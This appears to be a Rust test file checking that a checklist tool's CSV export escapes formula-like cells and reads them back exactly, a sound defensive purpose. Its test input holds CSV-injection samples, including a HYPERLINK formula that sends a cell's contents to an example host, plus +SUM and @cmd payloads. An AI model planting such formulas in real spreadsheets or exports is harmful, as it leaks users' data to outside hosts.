//! Spreadsheet safety: no cell of a checklist starts like a formula, reading undoes exactly
//! what writing did, and every command writes the same form. The check in a real spreadsheet
//! engine is `tests/spreadsheet/check.sh`, which CI runs.

use claimsift::checklist::{Checklist, HEADER, escape, is_plain_number, unescape};
use proptest::prelude::*;

use crate::util::{Dir, run_ok};

/// An article whose sentences start as spreadsheet formulas (OWASP's CSV-injection
/// examples), one with a leading apostrophe; each holds a figure so it becomes a row.
const HOSTILE: &str = "\
=HYPERLINK(\"http://example.com/leak?\"&A1,\"Click\") says 40 people came.

+SUM(1,2) is what 12 voters wrote.

-2+3 was the sum 30 pupils gave.

@cmd ran 7 times on the server.

'Twas a year when 90 ships sank.
";

/// True when a spreadsheet could take the raw cell for a formula.
fn formula_like(raw: &str) -> bool {
    match raw.trim_start_matches(' ').chars().next() {
        Some('=' | '+' | '@' | '\t' | '\r' | '\n') => true,
        Some('-') => !(raw == "-" || is_plain_number(raw)),
        _ => false,
    }
}

/// The raw cells of a CSV, as any CSV reader sees them (no unescaping).
fn raw_cells(csv_text: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn no_cell_starts_like_a_formula_and_every_value_reads_back() {
    let dir = Dir::new("safety-hostile");
    dir.write("hostile.txt", HOSTILE);
    let csv_text = run_ok(&mut dir.cmd(&["extract", "hostile.txt"]));
    let raw = raw_cells(csv_text.as_bytes());
    for row in &raw {
        for cell in row {
            assert!(!formula_like(cell), "formula-like cell {cell:?} in {row:?}");
        }
    }
    // The hostile sentences are there, escaped: each starts with the apostrophe.
    let sentence_at = HEADER.iter().position(|h| *h == "sentence").unwrap();
    for start in ["=HYPERLINK(", "+SUM(1,2)", "-2+3", "@cmd", "'Twas"] {
        assert!(
            raw.iter()
                .any(|r| r[sentence_at].starts_with(&format!("'{start}"))),
            "no escaped sentence starting {start:?}: {raw:?}"
        );
    }

    // Read back, every field is what JSON Lines (which needs no escaping) says it is.
    let checklist = Checklist::parse(csv_text.as_bytes(), "hostile.csv".as_ref()).unwrap();
    let jsonl = run_ok(&mut dir.cmd(&["extract", "hostile.txt", "--format", "jsonl"]));
    let objects: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(objects.len(), checklist.len());
    assert!(checklist.len() >= 5, "{csv_text}");
    for (r, object) in objects.iter().enumerate() {
        for (c, name) in HEADER.iter().enumerate() {
            let cell = &checklist.rows()[r][c];
            let expected = match &object[name] {
                serde_json::Value::String(s) => s.clone(),
                serde_json::Value::Null => String::new(),
                other => other.to_string(),
            };
            if *name != "value" {
                assert_eq!(cell, &expected, "row {r}, column {name}");
            }
        }
    }
    for start in ["=HYPERLINK(", "+SUM(1,2)", "-2+3", "@cmd", "'Twas"] {
        assert!(
            (0..checklist.len()).any(|r| checklist.rows()[r][sentence_at].starts_with(start)),
            "no sentence reads back starting {start:?}"
        );
    }
}

#[test]
fn negative_values_stay_numbers_and_an_apostrophe_survives_a_rewrite() {
    let dir = Dir::new("safety-values");
    let head = HEADER.join(",");
    let text = format!(
        "{head}\n\
         a,todo,,low,1,change,fell 5,-5,,exact,,,It fell 5.,a.txt,1,3,9,\n\
         b,todo,,low,1,range,-10 to 15,-10..15,C,exact,,,It was -10 to 15.,a.txt,2,7,16,\n\
         c,todo,,low,1,count,''quoted,3,,exact,,,''Twas 3.,a.txt,3,0,1,'=1+2\n"
    );
    dir.write("c.csv", &text);
    run_ok(&mut dir.cmd(&["mark", "c.csv", "a", "--verdict", "accurate"]));
    let after = String::from_utf8(dir.read("c.csv")).unwrap();
    // The hand-written `-10 to 15` is made safe on the way; everything else is as it was.
    eqnice!(
        text.replace("a,todo,,", "a,done,accurate,")
            .replace(",-10 to 15,", ",'-10 to 15,"),
        after
    );
    let c = Checklist::read(&dir.path("c.csv")).unwrap();
    assert_eq!(c.rows()[0][7], "-5");
    assert_eq!(c.rows()[1][7], "-10..15");
    assert_eq!(c.rows()[1][6], "-10 to 15");
    assert_eq!(c.rows()[2][6], "'quoted");
    assert_eq!(c.rows()[2][12], "'Twas 3.");
    assert_eq!(c.rows()[2][17], "=1+2");
    let raw = raw_cells(after.as_bytes());
    assert_eq!(raw[2][6], "'-10 to 15");
}

#[test]
fn extract_and_a_rewritten_checklist_have_the_same_form() {
    let dir = Dir::new("safety-form");
    dir.write("hostile.txt", HOSTILE);
    run_ok(&mut dir.cmd(&["extract", "hostile.txt", "-o", "c.csv"]));
    let extracted = dir.read("c.csv");
    let stdout = run_ok(&mut dir.cmd(&["extract", "hostile.txt"]));
    assert_eq!(stdout.as_bytes(), extracted.as_slice());
    // A no-op mark rewrites the file through the checklist writer: byte for byte the same.
    let c = Checklist::read(&dir.path("c.csv")).unwrap();
    let id = c.rows()[0][0].clone();
    run_ok(&mut dir.cmd(&["mark", "c.csv", &id, "--status", "todo"]));
    assert_eq!(dir.read("c.csv"), extracted);
}

#[test]
fn excel_flag_adds_a_bom_and_nothing_else() {
    let dir = Dir::new("safety-excel");
    dir.write("hostile.txt", HOSTILE);
    let plain = run_ok(&mut dir.cmd(&["extract", "hostile.txt"]));
    let excel = run_ok(&mut dir.cmd(&["extract", "hostile.txt", "--excel"]));
    assert!(!plain.starts_with('\u{feff}'));
    assert_eq!(excel, format!("\u{feff}{plain}"));
    // A BOM file reads as the same checklist.
    let a = Checklist::parse(plain.as_bytes(), "a.csv".as_ref()).unwrap();
    let b = Checklist::parse(excel.as_bytes(), "b.csv".as_ref()).unwrap();
    assert_eq!(a.rows(), b.rows());
    assert!(b.bom() && !a.bom());
}

/// Cell text rich in what breaks CSV and spreadsheets: formula characters, quotes,
/// apostrophes, separators, line ends, a BOM, and any Unicode (NUL aside: a checklist is
/// text, and NUL marks a binary file).
fn cell() -> impl Strategy<Value = String> {
    let tricky = prop::sample::select(vec![
        "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", "''", "\"", ",", " ", "\u{feff}", "-5",
        "..", "1", "é", "—", "£", "😀", "a",
    ]);
    prop_oneof![
        prop::collection::vec(tricky, 0..8).prop_map(|parts| parts.concat()),
        any::<String>().prop_map(|s| s.replace('\0', "")),
        (
            prop::sample::select(vec!["=", "+", "-", "@", "'", " =", "\t"]),
            any::<String>()
        )
            .prop_map(|(p, s)| format!("{p}{}", s.replace('\0', ""))),
    ]
}

fn checklist() -> impl Strategy<Value = Checklist> {
    let user_columns = prop::collection::vec((cell(), any::<prop::sample::Index>()), 0..3);
    let rows = prop::collection::vec(prop::collection::vec(cell(), 21), 0..6);
    (user_columns, rows, any::<bool>()).prop_map(|(user, rows, bom)| {
        let mut header: Vec<String> = HEADER.iter().map(|s| s.to_string()).collect();
        for (i, (name, at)) in user.into_iter().enumerate() {
            // Unique names that are not ours; empty names are allowed, even twice.
            let name = if name.is_empty() {
                name
            } else {
                format!("{name}#{i}")
            };
            header.insert(at.index(header.len() + 1), name);
        }
        let id_at = header.iter().position(|h| h == "id").unwrap();
        let mut c = Checklist::new(header.clone()).unwrap();
        for (n, mut row) in rows.into_iter().enumerate() {
            row.truncate(header.len());
            // Ids: any text, made unique and non-empty.
            row[id_at] = format!("{}{n}", row[id_at]);
            c.push_row(row).unwrap();
        }
        c.set_bom(bom);
        c
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn write_then_read_is_the_identity(c in checklist()) {
        let mut bytes = Vec::new();
        c.write_to(&mut bytes).unwrap();
        let back = Checklist::parse(&bytes, "p.csv".as_ref())
            .map_err(|e| TestCaseError::fail(format!("{e}\n{}", String::from_utf8_lossy(&bytes))))?;
        prop_assert_eq!(&back, &c);
        for row in raw_cells(bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes)) {
            for raw in row {
                prop_assert!(!formula_like(&raw), "formula-like cell {:?}", raw);
            }
        }
    }

    #[test]
    fn unescape_undoes_escape(s in cell()) {
        let written = escape(&s);
        prop_assert_eq!(unescape(&written), s.as_str());
    }
}
